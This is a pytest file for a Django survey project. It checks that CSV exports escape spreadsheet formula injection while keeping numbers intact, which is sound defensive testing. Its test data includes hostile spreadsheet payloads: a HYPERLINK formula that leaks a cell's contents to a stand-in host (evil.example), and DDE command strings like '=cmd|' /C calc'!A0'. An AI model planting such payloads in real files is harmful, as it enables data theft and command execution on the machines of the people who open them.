"""CSV formula injection: no cell of a CSV file the project writes is a formula when a
manager opens it in a spreadsheet (surveys/csvfiles.py), and the numbers the project
wrote stay numbers. One test per file the project writes: the response export (API),
the invitation links of an import (admin page) and of an export (admin action)."""

from __future__ import annotations

import base64
import csv
import io
import re
from decimal import Decimal

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from surveys import csvfiles, services
from surveys.models import Choice, Instrument, Question, Study
from tests.factories import ParticipantFactory, SiteFactory, StudyFactory

pytestmark = pytest.mark.filterwarnings("ignore:No directory at:UserWarning")

# Text that a spreadsheet would evaluate, each as typed, with the cell it must become.
FORMULAS = {
    "=1+1": "'=1+1",
    "+SUM(A1:A9)": "'+SUM(A1:A9)",
    "-2+3": "'-2+3",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "'\t=1",
    "\r=1": "'\r=1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")': '\'=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    # Japanese Excel reads the full-width forms as the formula characters.
    "＝1+1": "'＝1+1",
    "＋1": "'＋1",
    "－1": "'－1",
    "＠SUM(A1)": "'＠SUM(A1)",
}
# Text that is not a formula stays as it is (a leading quote would be visible).
PLAIN = ["1+1", "a=b", "こんにちは", "'quoted", " =1", "SUM(A1)", ""]


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.mark.parametrize(("text", "cell"), FORMULAS.items())
def test_text_that_would_be_a_formula_is_written_as_text(text, cell):
    out = io.StringIO()
    csvfiles.Writer(out).writerow([text])
    assert read_back(out.getvalue()) == [[cell]]


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_is_written_as_it_is(text):
    out = io.StringIO()
    csvfiles.Writer(out).writerow([text, "x"])
    assert read_back(out.getvalue()) == [[text, "x"]]


def test_numbers_the_project_wrote_stay_numbers():
    out = io.StringIO()
    csvfiles.Writer(out).writerow(
        [-3, Decimal("-3.5"), Decimal("1E+5"), Decimal("-0.0001"), 42, None, "-3"]
    )
    assert read_back(out.getvalue()) == [["-3", "-3.5", "100000", "-0.0001", "42", "", "'-3"]]


# --- The response export ------------------------------------------------------------------


@pytest.fixture
def hostile_export(db):  # type: ignore[no-untyped-def]
    """A study whose every text a manager or participant wrote is a formula."""
    study = StudyFactory(code="hostile")
    instrument = Instrument.objects.create(study=study, version=1, title_ja="票")
    single = Question.objects.create(
        instrument=instrument, code="pick", order=1, type=Question.Type.SINGLE, text_ja="問"
    )
    Choice.objects.create(question=single, code="a", order=1, label_ja="@SUM(A1)", label_en="=1+1")
    common = {"instrument": instrument, "text_ja": "問", "required": False}
    Question.objects.create(**common, code="comment", order=2, type=Question.Type.TEXT)
    Question.objects.create(**common, code="amount", order=3, type=Question.Type.NUMBER)
    services.instrument_publish(instrument=instrument)
    site = SiteFactory(study=study, code="-ward")
    participant = ParticipantFactory(site=site, reference="=HYPERLINK(A1)")
    services.response_submit(
        participant=participant,
        answers={"pick": "a", "comment": "+cmd|' /C calc'!A0", "amount": "-3"},
        language="ja",
    )
    return study


def test_the_response_export_neutralises_every_text_cell_and_keeps_numbers(hostile_export):
    client = APIClient()
    client.force_authenticate(User.objects.create_superuser("root", password="x"))
    response = client.get(
        "/api/v1/responses/export/",
        {"study": hostile_export.pk},
        headers={"Accept": "text/csv", "Accept-Language": "en"},
    )
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    (row,) = csv.DictReader(io.StringIO(text.lstrip("\ufeff")))
    assert row["participant"] == "'=HYPERLINK(A1)"
    assert row["site"] == "'-ward"
    assert row["pick"] == "a"
    assert row["pick__label"] == "'=1+1"
    assert row["comment"] == "'+cmd|' /C calc'!A0"
    assert row["amount"] == "-3"  # a number the project validated: still a number
    assert row["response_id"].isdigit() and row["instrument_version"] == "1"


# --- The invitation-link files ------------------------------------------------------------

# Each reference as imported, and its cell in the links file (a reference never holds
# "@": it would look like an e-mail address).
REFERENCES = {
    "=1+1": "'=1+1",
    "+1": "'+1",
    "-1": "'-1",
    "＝1+1": "'＝1+1",
    "－1": "'－1",
    "plain": "plain",
}


@pytest.fixture
def admin(db) -> Client:  # type: ignore[no-untyped-def]
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(User.objects.create_superuser("root", password="x"))
    return client


def hostile_study() -> Study:
    study = StudyFactory(code="links")
    SiteFactory(study=study, code="-ward")
    return study


def test_the_links_file_of_an_import_neutralises_references_and_sites(admin):
    study = hostile_study()
    content = "reference,site\r\n" + "".join(f"{r},-ward\r\n" for r in REFERENCES)
    upload = io.BytesIO(content.encode("utf-8"))
    upload.name = "participants.csv"
    response = admin.post(
        reverse("admin:surveys_participant_import"), {"study": study.pk, "file": upload}
    )
    assert response.status_code == 200
    html = response.content.decode()
    uri = re.search(r'href="data:text/csv;charset=utf-8;base64,([^"]+)"[^>]*id="download', html)
    assert uri is not None
    rows = list(csv.DictReader(io.StringIO(base64.b64decode(uri.group(1)).decode("utf-8-sig"))))
    assert sorted((r["reference"], r["site"]) for r in rows) == sorted(
        (cell, "'-ward") for cell in REFERENCES.values()
    )
    assert all(r["link"].startswith("http") for r in rows)


def test_the_links_file_of_an_export_neutralises_references_and_sites(admin):
    study = hostile_study()
    site = study.sites.get()
    people = [ParticipantFactory(site=site, reference=r) for r in REFERENCES]
    response = admin.post(
        reverse("admin:surveys_participant_changelist"),
        {
            "action": "export_links",
            "_selected_action": [str(p.pk) for p in people],
            "confirmed": "yes",
        },
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert sorted((r["reference"], r["site"]) for r in rows) == sorted(
        (cell, "'-ward") for cell in REFERENCES.values()
    )
